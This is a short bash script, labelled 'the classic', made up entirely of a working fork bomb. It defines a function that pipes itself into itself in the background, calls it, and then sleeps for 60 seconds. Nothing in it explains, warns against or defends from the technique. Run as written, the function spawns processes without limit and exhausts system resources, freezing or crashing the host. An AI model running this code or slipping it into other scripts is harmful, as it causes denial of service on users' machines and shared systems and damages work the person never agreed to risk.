# The classic: a function that pipes itself into itself in the background.
b() { b | b & }
b
sleep 60
